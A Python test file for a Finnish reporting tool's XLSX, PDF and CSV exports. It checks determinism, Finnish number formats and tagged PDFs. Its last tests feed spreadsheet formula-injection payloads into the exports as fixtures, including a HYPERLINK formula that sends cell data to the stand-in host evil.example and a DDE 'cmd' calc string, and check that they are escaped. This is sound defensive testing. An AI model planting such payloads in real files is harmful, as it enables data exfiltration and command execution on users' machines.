"""The export files: the same report gives the same bytes; a different generation time is the only change.
Numbers stay numbers a Finnish spreadsheet shows as such (formats, decimal comma); the PDF is tagged and paged."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from koonto.reporting.domain.errors import QueryErrors
from koonto.reporting.domain.report import COUNT, DAYS, EUR, HOURS, PERCENT, Note, Table
from koonto.reporting.exports.csv import build_csv, check_dialect
from koonto.reporting.exports.pdf import build_pdf
from koonto.reporting.exports.xlsx import build_xlsx

TABLES = [
    Table("yhteenveto", "Yhteenveto", ["Mittari", "Arvo"],
          [["Ideoita vastaanotettu", 7], ["Myönnetty, €", 53000], ["Neuvontatunteja", 1234.5]],
          chart_column=None, row_units=(COUNT, EUR, HOURS)),
    Table("neuvonta", "Neuvonta lajeittain", ["Laji", "Neuvontakertoja", "Tunteja"],
          [["Puhelin", 2, 1.2], ["Tapaaminen", 3, 3.2]], units=("", COUNT, HOURS)),
    Table("lapimenoajat", "Läpimenoajat (työpäivää)", ["Mittari", "Tapauksia", "Mediaani", "90. persentiili"],
          [["Ideasta ensimmäiseen yhteydenottoon", 0, None, None]], chart_column=2, units=("", COUNT, DAYS, DAYS)),
]
META = [("Kausi", "1.1.2026–31.3.2026"), ("Luotu", "29.11.2026 klo 14.30")]
AT = datetime(2026, 11, 29, 12, 30, tzinfo=UTC)


def test_xlsx_is_byte_for_byte_the_same_for_the_same_report_and_time() -> None:
    first = build_xlsx("Raportti", META, TABLES, AT)
    assert first == build_xlsx("Raportti", META, TABLES, AT)
    assert first != build_xlsx("Raportti", META, TABLES, datetime(2026, 11, 30, tzinfo=UTC))
    book = load_workbook(io.BytesIO(first))
    assert book.sheetnames == ["Raportti", "Yhteenveto", "Neuvonta lajeittain", "Läpimenoajat (työpäivää)"]
    assert list(book["Neuvonta lajeittain"].values)[1:4] == [
        ("Laji", "Neuvontakertoja", "Tunteja"), ("Puhelin", 2, 1.2), ("Tapaaminen", 3, 3.2)
    ]
    assert book.properties.created == datetime(2026, 11, 29, 12, 30)
    # openpyxl stamps `modified` with the wall clock on save: the file must not carry it (it made two builds a
    # second apart differ)
    assert book.properties.modified == datetime(2026, 11, 29, 12, 30)


def test_xlsx_figures_carry_number_formats_fitting_widths_and_a_native_chart_beside_charted_tables() -> None:
    book = load_workbook(io.BytesIO(build_xlsx("Raportti", META, TABLES, AT)))
    figures = book["Yhteenveto"]
    assert [(c.value, c.number_format) for c in figures["B"][2:5]] == [
        (7, "#,##0"), (53000, '#,##0\\ "€"'), (1234.5, "#,##0.0")  # thousands separator, euros, one decimal
    ]
    sessions = book["Neuvonta lajeittain"]
    assert [c.number_format for c in sessions[3]] == ["General", "#,##0", "#,##0.0"]
    assert sessions["B2"].alignment.wrap_text  # headers wrap instead of widening the column
    # every column at least as wide as its longest label or figure
    assert book["Läpimenoajat (työpäivää)"].column_dimensions["A"].width >= len("Ideasta ensimmäiseen yhteydenottoon")
    assert figures.column_dimensions["A"].width >= len("Ideoita vastaanotettu")
    assert sessions.column_dimensions["B"].width >= len("Neuvontakertoja")
    # the charts: the sessions table has one (right of the table, from its own cells); the key figures and the
    # durations with no figure have none, as on the dashboard
    charts = sessions._charts
    assert len(charts) == 1 and charts[0].anchor._from.col >= len(TABLES[1].headers)
    series = charts[0].series[0]
    assert series.val.numRef.f == "'Neuvonta lajeittain'!$B$3:$B$4"
    assert series.cat.strRef.f == "'Neuvonta lajeittain'!$A$3:$A$4"  # the row labels as text categories
    assert not figures._charts and not book["Läpimenoajat (työpäivää)"]._charts
    percent = Table("vaiheet", "Vaiheet", ["Vaihe", "Edenneitä, %"], [["Sparrauksessa", 85.7]],
                    units=("", PERCENT))
    rates = load_workbook(io.BytesIO(build_xlsx("R", META, [percent], AT)))["Vaiheet"]
    assert rates["B3"].value == 85.7 and rates["B3"].number_format == '0.0\\ "%"'


def test_pdf_is_the_same_for_the_same_report_and_shows_figures_and_charts() -> None:
    pdf = build_pdf("Koonto: raportti", META, TABLES, AT)
    assert pdf.startswith(b"%PDF") and pdf == build_pdf("Koonto: raportti", META, TABLES, AT)
    text = "\n".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf)).pages).replace("\xa0", " ")
    assert re.search(r"Myönnetty, €\s+53 000\b", text) and re.search(r"Tapaaminen\s+3\s+3,2\b", text)
    assert "Kaavio: Neuvontakertoja" in text  # the chart of the sessions table
    assert "Kaavio: Mediaani" not in text  # nothing to draw when there is no figure


FUNNEL = Table(
    "vaiheet", "Vaiheet ja suppilo",
    ["Vaihe", "Tapauksia kauden lopussa", "Kauden ideoista vaiheeseen edenneitä", "Edenneitä edellisestä vaiheesta, %"],
    [[f"Vaihe {n}", n, n * 2, 50.5] for n in range(1, 70)], units=("", COUNT, COUNT, PERCENT),
)


def test_pdf_is_tagged_titled_in_finnish_dated_and_numbers_its_pages() -> None:
    pdf = build_pdf("Koonto: raportti", META, [*TABLES, FUNNEL], AT)
    reader = PdfReader(io.BytesIO(pdf))
    pages = [page.extract_text().replace("\xa0", " ") for page in reader.pages]
    assert len(pages) >= 3
    for number, text in enumerate(pages, start=1):
        assert f"Sivu {number} / {len(pages)}" in text
    catalog = reader.trailer["/Root"]
    assert catalog["/Lang"] == "fi" and catalog["/MarkInfo"]["/Marked"]
    assert catalog["/ViewerPreferences"]["/DisplayDocTitle"]  # the viewer shows the title, not the file name
    tree = catalog["/StructTreeRoot"].get_object()
    document = tree["/K"][0].get_object()
    kinds = set()

    def walk(element: object, depth: int = 0) -> None:
        node = element.get_object() if hasattr(element, "get_object") else element
        if isinstance(node, dict) and "/S" in node:
            kinds.add(node["/S"])
            for kid in node.get("/K", []):
                walk(kid, depth + 1)

    walk(document)
    assert {"/H1", "/H2", "/Table", "/TR", "/TH", "/TD"} <= kinds
    assert b"pdfuaid:part" in reader.trailer["/Root"]["/Metadata"].get_object().get_data()
    meta = reader.metadata
    assert meta is not None and meta.title == "Koonto: raportti"
    assert meta.creation_date == AT and meta.modification_date == AT
    # the funnel's long headers wrap inside their columns: every word of them reads as a word of its own
    words = set(re.findall(r"[\w%,]+", "\n".join(pages)))
    for header in FUNNEL.headers:
        assert set(re.findall(r"[\w%,]+", header)) <= words, header
    assert "kauden lopussaKauden" not in "".join(pages).replace("\n", "")


def test_csv_has_every_section_as_a_block_with_decimal_commas_for_finnish_excel() -> None:
    text = build_csv(META, TABLES).decode("utf-8")
    assert text.startswith("\ufeffKausi;1.1.2026–31.3.2026")
    assert "# Neuvonta lajeittain\r\nLaji;Neuvontakertoja;Tunteja\r\nPuhelin;2;1,2\r\n" in text
    assert "Ideasta ensimmäiseen yhteydenottoon;0;;\r\n" in text
    assert "Myönnetty, €;53000\r\nNeuvontatunteja;1234,5\r\n" in text  # no thousands separator: a number
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert ["Tapaaminen", "3", "3,2"] in rows


def test_csv_in_the_international_dialect_uses_commas_and_decimal_points() -> None:
    text = build_csv(META, TABLES, check_dialect("en")).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert ["Puhelin", "2", "1.2"] in rows and ["Neuvontatunteja", "1234.5"] in rows
    assert ["Laji", "Neuvontakertoja", "Tunteja"] in rows
    assert check_dialect(None) == check_dialect(" FI ") == "fi"
    with pytest.raises(QueryErrors) as wrong:
        check_dialect("excel")
    assert "dialect" in wrong.value.errors and "fi" in wrong.value.errors["dialect"]


EVIL = ['=HYPERLINK("http://evil.example/?d="&A1,"Avaa")', "+358401234567", "-2+3", "@SUM(A1:A9)",
        "\t=1+1", "\r=1+1", "\n=1+1"]
EVIL_TABLES = [
    Table("hakemukset", "Hakemukset rahoitushauittain", ["Rahoitushaku", "Hakemuksia", "Haettu, €"],
          [[name, -3, -1500.5] for name in EVIL]),
    Table("ideat_kunnittain", "=Kunnat", ["@Kunta", "Ideoita"], [["=cmd|' /C calc'!A0", 2]],
          note_message=Note("-huom")),
]
EVIL_META = [("Kunta", "=1+2"), ("+Luotu", "29.11.2026 klo 14.30")]


def test_csv_text_cells_that_look_like_formulas_get_a_quote_and_numbers_stay_numbers() -> None:
    rows = list(csv.reader(io.StringIO(build_csv(EVIL_META, EVIL_TABLES).decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert [row for row in rows if row[1:] == ["-3", "-1500,5"]] == [["'" + name, "-3", "-1500,5"] for name in EVIL]
    assert ["# =Kunnat"] in rows and ["'@Kunta", "Ideoita"] in rows and ["'=cmd|' /C calc'!A0", "2"] in rows
    assert rows[0] == ["Kunta", "'=1+2"] and rows[1] == ["'+Luotu", "29.11.2026 klo 14.30"]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r", "\n")]
    assert not [cell for cell in cells if cell.startswith("-") and cell not in ("-3", "-1500,5")]


def test_xlsx_stores_formula_like_texts_as_quoted_strings_never_as_formulas() -> None:
    data = build_xlsx("=Raportti", EVIL_META, EVIL_TABLES, AT)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheets = [package.read(n).decode() for n in package.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not [xml for xml in sheets if "<f>" in xml or "<f " in xml]
    book = load_workbook(io.BytesIO(data))
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")]
    calls = list(book["Hakemukset rahoitushauittain"].iter_rows(min_row=3, values_only=True))
    # the text intact after the quote (XML reads a carriage return back as a line feed)
    assert calls == [("'" + name.replace("\r", "\n"), -3, -1500.5) for name in EVIL]
    numbers = [c for c in cells if not isinstance(c.value, str)]
    assert numbers and {c.data_type for c in numbers} == {"n"}
    assert list(book["Raportti"].values)[:3] == [
        ("'=Raportti", None), ("Kunta", "'=1+2"), ("'+Luotu", "29.11.2026 klo 14.30")
    ]
    assert list(book["=Kunnat"].values)[:3] == [
        ("'=Kunnat", None), ("'@Kunta", "Ideoita"), ("'=cmd|' /C calc'!A0", 2)
    ]
